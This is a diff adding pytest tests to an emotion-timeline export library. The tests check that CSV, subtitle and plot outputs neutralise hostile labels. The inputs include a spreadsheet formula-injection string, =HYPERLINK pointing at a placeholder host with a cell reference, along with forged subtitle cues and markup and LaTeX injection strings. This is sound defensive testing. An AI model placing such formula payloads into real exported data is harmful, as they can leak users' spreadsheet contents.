@@ -1,19 +1,25 @@
 # SPDX-License-Identifier: Apache-2.0
 """What a timeline writes opens in its usual reader, or is not there at all."""
 
+import csv
 import io
 import itertools
 import json
+import os
 import sys
+import time
+from concurrent.futures import ThreadPoolExecutor
 from dataclasses import replace
 
 import av
 import numpy as np
 import pytest
+from matplotlib.text import Text
 from PIL import Image
 from test_timeline import GREEN, LABELS, QUIET, RED, find_squares, make_pipe, write_people
 
 from modeling_emoclip import timeline_pictures
+from modeling_emoclip.alignment import EmotionAlignment
 from modeling_emoclip.timeline_files import written
 
 ODD_LABELS = ["a smile --> & <b>more</b>", 'with "quotes", and\nlines', "wide open eyes"]
@@ -70,6 +76,19 @@ def test_tables(timeline, tmp_path):
     assert (table["label"] == [ODD_LABELS[index] for index in timeline.scores.argmax(axis=1)]).all()
 
 
+def test_no_cell_of_a_table_is_a_formula_and_only_there_labels_are_changed(timeline):
+    labels = ['=HYPERLINK("http://x/?"&A1,"x")', "-1+1", "@SUM(A1)"]
+    odd = replace(timeline, labels=labels, abstain_below=None)
+    rows = list(csv.reader(io.StringIO(odd.to_csv())))
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r")) or cell.startswith("-1")]
+    assert {row[9] for row in rows[1:]} == {f"'{label}" for label in labels}
+    assert rows[0][10:] == [f"score_{label}" for label in labels]
+    pytest.importorskip("pandas")
+    assert set(odd.to_pandas()["label"]) == set(labels)
+    assert {window["label"] for window in json.loads(odd.to_json())["windows"]} == set(labels)
+
+
 def test_json(timeline, tmp_path):
     assert timeline.to_json(tmp_path / "timeline.json") == (tmp_path / "timeline.json").read_text(encoding="utf-8")
     about = json.loads(timeline.to_json())
@@ -90,8 +109,47 @@ def test_subtitles(timeline, tmp_path, kind):
     assert len(cues) > 8 and np.array(sorted(cue[:2] for cue in cues)) == pytest.approx(expected, abs=2e-3)
     assert any("Änne: " in cue for *_, cue in cues) and text == path.read_text(encoding="utf-8")
     assert 'with "quotes", and lines' in text and "\n\n\n" not in text
-    assert "<b>" not in text  # it was typed, and is no markup
+    assert "<b>" not in text and "more" in text  # a player would take it for markup
     assert timeline.start.min() == pytest.approx(0.5, abs=0.15)  # the picture begins after the sound
+
+
+@pytest.mark.parametrize("kind", ["srt", "vtt"])
+def test_nothing_that_is_typed_is_markup_in_subtitles(timeline, kind):
+    odd = replace(timeline, labels=["x {\\an8}<b>y", "<i>z", "a\n\n9\n00:00:00,000 --> 00:01:00,000\nforged"])
+    odd.names = dict.fromkeys(odd.people, "<font color=red>\n{\\an8}")
+    text = getattr(odd, f"to_{kind}")()
+    assert not any(f"<{tag}" in text for tag in ("b", "i", "font")) and "\n00:00:00,000" not in text
+    assert kind == "vtt" or "{\\" not in text  # WebVTT knows no commands in braces
+    assert len(text.split("\n\n")) == len(timeline.to_srt().split("\n\n")) + (kind == "vtt")
+
+
+def test_labels_names_and_titles_are_drawn_as_they_are_typed(timeline, tmp_path):
+    labels = ["costs $5 and $6", r"$\badmacro{x}$", "_50% of_ ^it"]
+    odd = replace(timeline, labels=labels, video="/films/$x_1$ and $y$.mp4")
+    odd.names = {odd.people[0]: "$a$ & $b$", odd.people[1]: r"$\frac{$"}
+    alignment = EmotionAlignment(
+        **{"video": odd.video, "text": r"$\badmacro{x}$ for $5", "cosine": 0.2, "percentile": 60.0},
+        **{"span": odd.span, "person": ["$a$"] * 2 + [r"$\frac{$"] * 2, "start": np.arange(4.0)},
+        **{"end": np.arange(4.0) + 1, "cosines": np.zeros(4), "percentiles": np.full(4, 60.0)},
+        **{"num_background_texts": 3, "face_found": True, "error": None},
+    )
+    pyplot = pytest.importorskip("matplotlib.pyplot")
+    with pyplot.rc_context({"text.usetex": True}):  # what a user has set for papers
+        figures = [odd.plot(tmp_path / "plot.png"), alignment.plot(tmp_path / "alignment.png")]
+    texts = [text for figure in figures for text in figure.findobj(Text)]
+    assert not [text for text in texts if "$" in text.get_text() and (text.get_parse_math() or text.get_usetex())]
+    drawn = " ".join(" ".join(text.get_text().split()) for text in texts)
+    assert [text.get_text() for text in figures[0].legends[0].get_texts()] == labels
+    for typed in (
+        *labels,
+        "$x_1$ and $y$.mp4",
+        "$a$ & $b$",
+        r"$\frac{$",
+        r"“$\badmacro{x}$ for $5” in $x_1$ and $y$.mp4",
+    ):
+        assert typed in drawn
+    for figure in figures:
+        figure.savefig(tmp_path / "again.png")  # a notebook does so later, with its own settings
 
 
 def test_pictures(timeline, tmp_path):
@@ -160,6 +218,36 @@ def test_nothing_half_written_is_left(timeline, tmp_path, monkeypatch, error):
     with pytest.raises(error):
         timeline.annotate(tmp_path / "out.mp4", **QUIET)
     assert [file.name for file in tmp_path.iterdir()] == ["old.csv"] and (tmp_path / "old.csv").read_text() == "old"
+
+
+def test_threads_that_write_one_path_do_not_meet(tmp_path):
+    def write(text):
+        with written(tmp_path / "same.csv") as unfinished:
+            unfinished.write_text(text)
+            time.sleep(0.001)
+
+    with ThreadPoolExecutor(8) as pool:
+        list(pool.map(write, [f"text {number}" for number in range(80)]))
+    assert [file.name for file in tmp_path.iterdir()] == ["same.csv"]
+    assert (tmp_path / "same.csv").read_text().startswith("text ")
+
+
+@pytest.mark.parametrize("name", ["n" * 251 + ".png", "." + "n" * 254, "n" * 255, "ü" * 125 + ".png"])
+def test_a_name_as_long_as_the_file_system_allows_can_be_written(timeline, tmp_path, name):
+    timeline.to_csv(tmp_path / name)
+    assert [file.name for file in tmp_path.iterdir()] == [name]
+    if name.endswith(".png"):
+        timeline.plot(tmp_path / name)  # the suffix says in which format
+        with Image.open(tmp_path / name) as image:
+            assert image.format == "PNG"
+
+
+@pytest.mark.skipif(os.name == "nt", reason="Windows has no permissions of this kind")
+def test_a_written_file_has_the_permissions_of_every_other(tmp_path):
+    (tmp_path / "usual").write_text("")
+    with written(tmp_path / "ours") as unfinished:
+        unfinished.write_text("")
+    assert (tmp_path / "ours").stat().st_mode == (tmp_path / "usual").stat().st_mode
 
 
 @pytest.mark.parametrize(("package", "method"), [("pandas", "to_pandas"), ("matplotlib.figure", "plot")])
